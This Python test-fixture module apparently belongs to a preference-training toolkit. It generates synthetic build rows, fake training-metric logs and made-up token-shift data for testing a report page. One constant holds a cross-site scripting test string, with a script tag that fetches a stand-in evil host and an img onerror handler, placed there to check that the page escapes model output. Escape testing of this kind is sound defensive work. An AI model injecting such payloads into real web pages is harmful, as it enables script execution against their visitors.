"""Artifacts as the stages leave them, without running one: what the page and its figures are tested on."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

import numpy as np

from bnfctl import shards
from bnfctl.artifact import Artifact, Plan, Store
from bnfctl.config import BuildConfig, TrainConfig
from bnfctl.data import pairing
from tests.report.evals import BASE

HOSTILE = (
    "<script>document.title = 'owned'; fetch('https://evil.example/')</script> </script><img src=x "
    "onerror=\"document.title='owned'\"> $x^2$ & &amp; \u2028 naïve 數學 \u202e🎈 <!-- ]]> ' \" `"
)
"""What a model may write to break out of the page."""


def publish_build(
    store: Store,
    seed: int = 0,
    records: int = 200,
    rewards: bool | Sequence[dict[str, float]] = True,
    ratio: float = 1.0,
) -> Artifact:
    """Pairs with rewards drawn from two normal distributions, or with none, or with these by side, over and over."""
    source = np.random.default_rng(seed)
    rows = []
    for number in range(records):
        row: dict[str, Any] = {
            "record_id": f"r{number}", "prompt_id": f"p{number}", "split": "test" if number % 20 == 0 else "train",
            "prompt": [{"role": "user", "content": f"Question {number}?"}],
        }  # fmt: skip
        for side, shift in (("chosen", 0.6), ("rejected", -0.4)):
            length = int(source.integers(20, 400) + 60 * shift)
            row |= {f"{side}_text": "x" * (4 * length), f"{side}_ids": [1] * max(length, 1), f"{side}_finish": "stop"}
            if isinstance(rewards, bool):
                row[f"{side}_reward"] = float(source.normal(shift, 0.8)) if rewards else None
            else:
                row[f"{side}_reward"] = rewards[number % len(rewards)][side]
        rows.append(row)
    config = BuildConfig(input="score", seed=seed, pairing_ratio=ratio)
    with store.draft(Plan("build", 2, config, {})) as draft:
        draft.open()
        shards.write_shards(draft.path / "rows", rows, pairing.SCHEMA)
        return draft.publish({"records": records, "pairs": records})


def publish_train(store: Store, build: Artifact, loss: str, seed: int, steps: int = 60) -> Artifact:
    """A training whose margins grow; `loss` decides how fast, and whether there is a coefficient below 1."""
    speed = 0.4 + (sum(map(ord, loss)) % 7) / 4
    source = np.random.default_rng(seed * 1000 + sum(map(ord, loss)))
    config = TrainConfig(model=BASE.ref, loss=loss, seed=seed)
    with store.draft(Plan("train", 2, config, {"model": BASE, "data": build.pinned()})) as draft:
        draft.open()
        with open(draft.path / "metrics.jsonl", "w", encoding="utf-8") as file:
            for step in range(1, steps + 1):
                for split in ("train", "test") if step % 10 == 0 else ("train",):
                    line = _metrics(step / steps * speed, source, split, loss)
                    file.write(json.dumps({"step": step, "split": split, **line}) + "\n")
        return draft.publish({"loss": loss, "steps": steps, "final": {"step": steps}})


def _metrics(way: float, source: np.random.Generator, split: str, loss: str) -> dict[str, Any]:
    def noisy(value: float, width: float = 0.03) -> float:
        return float(value + source.normal(0, width if split == "train" else width / 4))

    line: dict[str, Any] = {"objective": noisy(-0.05 * way)}
    if loss in ("bnf", "kto"):
        line |= {"objective_chosen": noisy(0.3 - 0.1 * way), "objective_rejected": noisy(-0.35 - 0.1 * way)}
    line |= {"logp_chosen": noisy(-0.5), "shift_chosen": noisy(0.06 * way, 0.01), "logp_rejected": noisy(-0.7),
             "shift_rejected": noisy(-0.2 * way, 0.02), "margin": noisy(9 * way, 0.8), "accuracy": min(1.0, 0.5 + 0.2 * way)}  # fmt: skip
    return line | ({"coefficient": noisy(1 - 0.15 * way), "grad_norm": 1.0, "lr": 1e-6} if split == "train" else {})


def shift_rows(method: str, seed: int, responses: int = 60, shared: bool = True) -> list[dict[str, Any]]:
    """Rows of `analysis.shifts.SCHEMA` of made-up token shifts; shared: the same responses for every method."""
    from bnfctl.analysis.shifts import ResponseShift

    size = 0.1 + (sum(map(ord, method)) % 5) / 8
    found = []
    for number in range(responses):
        tokens = int(np.random.default_rng(number).integers(8, 60))
        common = np.random.default_rng(number + 7).normal(0, 1, tokens)
        source = np.random.default_rng(seed * 100_003 + sum(map(ord, method)) * 1009 + number)
        ll = (size * (0.6 * common + 0.4 * source.normal(0, 1, tokens)) + 0.05 * size).astype(np.float32)
        lse = source.normal(0.3 / size / 8, 0.1, tokens).astype(np.float32)
        name = f"s{number}" if shared else f"{method}-{seed}-{number}"
        made = ResponseShift(f"p{number}", 0, name, number % 30 == 0, ll, ll + lse, lse, abs(ll), abs(ll) / 2, 0.0)
        found.append(made.row())
    return found
